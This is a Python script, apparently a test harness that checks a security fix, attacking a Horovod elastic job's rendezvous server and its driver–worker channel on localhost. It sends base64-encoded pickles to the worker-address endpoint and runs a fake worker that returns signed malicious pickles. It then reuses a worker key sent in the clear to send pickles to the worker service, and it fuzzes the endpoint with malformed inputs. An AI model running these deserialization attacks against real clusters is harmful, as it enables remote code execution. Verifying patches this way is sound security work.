"""Attack the rendezvous of an elastic job and the channel between driver and worker.

Arguments: ``released`` or ``patched``, and the path of the markers.  The last line that is
printed is JSON: what was answered, and what a worker that did nothing wrong was told.
"""

import base64
import hashlib
import hmac
import inspect
import json
import os
import pickle
import socketserver
import struct
import sys
import threading

import payload
from horovod.runner.elastic import discovery, worker
from horovod.runner.elastic.driver import ElasticDriver
from horovod.runner.elastic.rendezvous import create_rendezvous_handler
from horovod.runner.http.http_server import RendezvousServer

KEY = b"k" * 32
MALFORMED = {
    "nothing": b"",
    "no JSON": b"[",
    "another type": b"[]",
    "deep": b"[" * 60000,
    "long": b" " * 70000,
    "no key": json.dumps({"addresses": {}}).encode(),
    "short key": json.dumps({"addresses": {}, "secret_key": "AAAA"}).encode(),
}


def encoded(addresses) -> bytes:
    """Addresses as a worker of the patched version sends them."""
    secret_key = base64.b64encode(KEY).decode()
    return json.dumps({"addresses": addresses, "secret_key": secret_key}).encode()


for name, addresses in {
    "no list": {"lo": "127.0.0.1"},
    "empty list": {"lo": []},
    "a name": {"lo": [["localhost", 80]]},
    "no such port": {"lo": [["127.0.0.1", 65536]]},
    "port of another type": {"lo": [["127.0.0.1", True]]},
    "three parts": {"lo": [["127.0.0.1", 80, 0]]},
}.items():
    MALFORMED[name] = encoded(addresses)


def signed(message: bytes) -> bytes:
    """A message on the wire, signed with the key that the attacker made up."""
    digest = hmac.new(KEY, message, hashlib.sha256).digest()
    return digest + struct.pack("i", len(message)) + message


class Peer(socketserver.StreamRequestHandler):
    """A false worker, whose answers are pickles."""

    def handle(self):
        self.rfile.read(1)
        self.wfile.write(signed(payload.pickled(f"{sys.argv[2]}-answer")))


class Listener:
    """What a training script hears of."""

    def __init__(self):
        self.heard = []

    def on_hosts_updated(self, *arguments):
        self.heard.append([int(argument) for argument in arguments])


def notify(client, *extra):
    """Tell a worker of changed hosts, as the driver of this version does."""
    takes_result = "update_res" in inspect.signature(client.notify_hosts_updated).parameters
    client.notify_hosts_updated(1234567890, *(extra if takes_result else ()))


def main(kind, marker) -> None:
    """Attack, then use the same servers for what they are for."""
    server = RendezvousServer(0)
    driver = ElasticDriver(server, discovery.FixedHosts({"localhost": 1}), 1, 1)
    start = {"address": "127.0.0.1"} if kind == "patched" else {}
    port = server.start(create_rendezvous_handler(driver), **start)
    answers = {}

    def put(body, slot="localhost:0"):
        return payload.request(port, "PUT", f"/worker_addresses/{slot}", body)

    answers["pickle"] = put(base64.b64encode(payload.pickled(f"{marker}-rendezvous")))
    if kind == "patched":
        answers["malformed"] = {name: put(body) for name, body in MALFORMED.items()}
        answers["slots"] = [put(encoded({}), slot) for slot in ("localhost", "a:b", ":0", "a:0:0")]
        answers["rank of no slot"] = payload.request(port, "GET", "/rank_and_size/localhost")

    peer = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Peer)
    peer.daemon_threads = True
    threading.Thread(target=peer.serve_forever, daemon=True).start()
    addresses = {"lo": [("127.0.0.1", peer.server_address[1])]}
    released = base64.b64encode(pickle.dumps((addresses, KEY)))
    answers["false worker"] = put(encoded(addresses) if kind == "patched" else released)

    manager = worker.WorkerNotificationManager()
    listener = Listener()
    manager.register_listener(listener)
    manager.init("127.0.0.1", port, None, "localhost", 0)
    answers["worker's key"] = payload.request(port, "GET", "/worker_addresses/localhost:0")

    # whoever has a worker's key, which came in the clear, asks the worker
    service = manager._service
    attacked = worker.WorkerNotificationService(KEY, None, manager)
    send(attacked.get_port(), signed(payload.pickled(f"{marker}-request")))
    send(attacked.get_port(), KEY + struct.pack("i", -1))
    attacked.shutdown()

    (client,) = driver._worker_clients.values()
    notify(client, 3)
    answers["worker heard"] = listener.heard
    service.shutdown()
    driver.stop()
    print("\n" + json.dumps(answers), flush=True)
    os._exit(0)


def send(port, data) -> None:
    """Send bytes to a server on this machine, and wait until it hangs up."""
    import socket

    with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        try:
            connection.recv(4096)
        except ConnectionError:
            pass


if __name__ == "__main__":
    main(*sys.argv[1:])
